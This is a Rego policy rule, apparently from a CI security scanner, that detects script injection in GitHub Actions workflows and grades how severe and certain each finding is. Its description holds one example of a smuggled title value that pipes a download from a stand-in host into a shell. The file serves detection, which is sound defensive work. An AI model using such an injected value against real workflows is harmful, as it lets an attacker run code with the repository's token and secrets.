# METADATA
# title: Text from outside becomes part of a script
# description: >-
#   GitHub replaces ${{ … }} with its value before the script runs, so quotes around it protect nothing: a title such as
#   a"; curl evil.example | sh; " is then part of the program. Whoever can write the text runs commands with the job's
#   token and secrets. How grave that is depends on who can write it: high where anybody on GitHub can and the run holds
#   the repository's own token; medium where the run is a fork's, or a merge comes first, or the caller decides; low for
#   inputs of an action or reusable workflow, whose callers may pass such text on.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#     description: Script injections
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
#     description: Use an intermediate environment variable
# custom:
#   severity: high
#   confidence: high
#   kinds: [workflow, action]
#   since: 0.1.0
#   remediation: >-
#     Set an environment variable from the expression in env: of the step and use the variable in the script, quoted:
#     "$TITLE", or process.env.TITLE in github-script.
package rules.workflow["template-injection"]

deny contains {
	"msg": sprintf("%s is put into %s as code: %s", [subject(i), place(i), who(i)]),
	"path": i.path,
	"text": i.text,
	"severity": severity(i),
	"confidence": confidence(i),
} if {
	some i in input.facts.workflow.injections
}

subject(i) := sprintf("%s, set from %s,", [i.via, i.context]) if {
	i.via != ""
} else := i.context

place(i) := "the script" if {
	i.sink == "run"
} else := sprintf("the input %s", [i.sink])

who(i) := "whoever calls this decides what runs" if {
	i.reach == "caller"
} else := sprintf("whoever gets a change merged decides what runs on %s", [i.event]) if {
	i.reach == "contributor"
} else := sprintf("anybody decides what runs on %s%s", [i.event, unless(i)])

unless(i) := " once the label is set" if {
	i.protection == "label"
} else := ", unless the environment asks for approval" if {
	i.protection == "environment"
} else := ""

severity(i) := "low" if {
	guarded(i)
} else := "medium" if {
	i.protection != "none"
} else := "high" if {
	i.reach == "outsider"
	i.privileged
} else := "medium"

guarded(i) if i.input

guarded(i) if i.protection == "person"

confidence(i) := "low" if {
	guarded(i)
} else := "low" if {
	i.protection in {"label", "environment"}
} else := "medium" if {
	i.reach in {"caller", "contributor"}
} else := "high"
